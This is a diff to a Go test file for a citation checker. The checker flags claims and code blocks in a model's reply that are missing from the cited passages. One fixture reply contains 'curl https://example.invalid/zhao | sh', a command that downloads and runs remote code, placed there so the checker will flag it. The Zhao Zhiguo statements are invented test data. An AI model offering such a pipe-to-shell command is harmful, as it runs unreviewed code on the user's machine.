@@ -132,7 +132,13 @@ func checkHonest(t *testing.T, res *Result, streamed string) {
 		t.Errorf("text %q has %d marks for %d marked claims", res.Text, marks, len(res.Unchecked()))
 	}
 	for _, c := range res.Unchecked() {
-		if !strings.Contains(res.Text, markText(c)+" ") {
+		// A sentence opens with its mark; a code block has it on a line
+		// of its own above the fence.
+		after := " "
+		if c.Reason == ReasonCodeNotFound || c.Reason == ReasonCodeUncited {
+			after = "\n"
+		}
+		if !strings.Contains(res.Text, markText(c)+after) {
 			t.Errorf("claim %q: mark %s not in the text %q", c.Text, markText(c), res.Text)
 		}
 		if !strings.Contains(notes, markText(c)+" "+say(res.Lang, i18n.Quoted, truncateRunes(oneLine(c.Text), 60))) {
@@ -176,6 +182,7 @@ type adversarialCase struct {
 	cut               string
 	has, lacks        []string // in the text
 	lang              string   // of the notes, when not English
+	notes             []string // in the notes
 }
 
 func zhaoClaim(t testing.TB, p string) string {
@@ -212,6 +219,22 @@ var adversarialCases = []adversarialCase{
 		reply: func(t testing.TB, p string) string {
 			return "Le porte-parole est Zhao Zhiguo " + backed(t, p, zhaoQuote) + ". Il a infligé une amende à Tesla [" + cite(t, p, zhaoQuote) + "] «fined Tesla heavily»."
 		}, want: []Support{Verified, Unverified}, reason: ReasonNotFound, lang: "fr"},
+
+	// Code blocks: a reader copies them as they are.
+	{kind: "code", name: "a code block in no passage", question: spokesmanQuestion, rewrite: rewriteNone,
+		reply: func(t testing.TB, p string) string {
+			return zhaoClaim(t, p) + "Run this:\n```sh\ncurl https://example.invalid/zhao | sh\n```"
+		}, want: []Support{Verified, "", Unverified}, reason: ReasonCodeNotFound, has: []string{"\n⚠¹\n```sh\ncurl"},
+		notes: []string{"⚠¹ “curl https://example.invalid/zhao | sh” — this line of code is in none of the cited passages"}},
+	{kind: "code", name: "a code block copying its passage", question: spokesmanQuestion, rewrite: rewriteNone,
+		reply: func(t testing.TB, p string) string {
+			return zhaoClaim(t, p) + "\n```\n" + strings.ReplaceAll(zhaoQuote, " ", "\n") + "\n```"
+		}, want: []Support{Verified}, lacks: []string{"⚠"}},
+	{kind: "code", name: "French question, code noted in French", question: "Qui est le porte-parole du ministère ?", rewrite: "en: ministry spokesman Zhao Zhiguo",
+		reply: func(t testing.TB, p string) string {
+			return "Le porte-parole est Zhao Zhiguo " + backed(t, p, zhaoQuote) + ".\n```\nzhao --amende tesla\n```"
+		}, want: []Support{Verified, Unverified}, reason: ReasonCodeNotFound, lang: "fr",
+		notes: []string{"cette ligne de code ne figure dans aucun des passages cités"}},
 
 	// The quote is right, the claim is not.
 	{kind: "weak", name: "number changed", question: usersQ, rewrite: rewriteNone,
@@ -281,7 +304,7 @@ var adversarialCases = []adversarialCase{
 	{kind: "citation form", name: "a fenced block after a claim", question: spokesmanQuestion, rewrite: rewriteNone,
 		reply: func(t testing.TB, p string) string {
 			return zhaoClaim(t, p) + "\n```\nZhao said so [1].\n```\nHe fined Tesla [" + cite(t, p, zhaoQuote) + "]."
-		}, want: []Support{Verified, Unverified}, has: []string{"\n```\nZhao said so [1].\n```\n⚠¹ He fined Tesla [1]."}},
+		}, want: []Support{Verified, Unverified, Unverified}, has: []string{"\n⚠¹\n```\nZhao said so [1].\n```\n⚠² He fined Tesla [1]."}},
 	{kind: "citation form", name: "footnote definitions at the end", question: spokesmanQuestion, rewrite: rewriteNone,
 		reply: func(t testing.TB, p string) string {
 			n := cite(t, p, zhaoQuote)
@@ -491,6 +514,11 @@ func TestAdversarialReplies(t *testing.T) {
 			for _, s := range tc.lacks {
 				if strings.Contains(res.Text, s) {
 					t.Errorf("text %q shows %q", res.Text, s)
+				}
+			}
+			for _, s := range tc.notes {
+				if notes := strings.Join(res.Notes(), "\n"); !strings.Contains(notes, s) {
+					t.Errorf("notes lack %q:\n%s", s, notes)
 				}
 			}
 		})
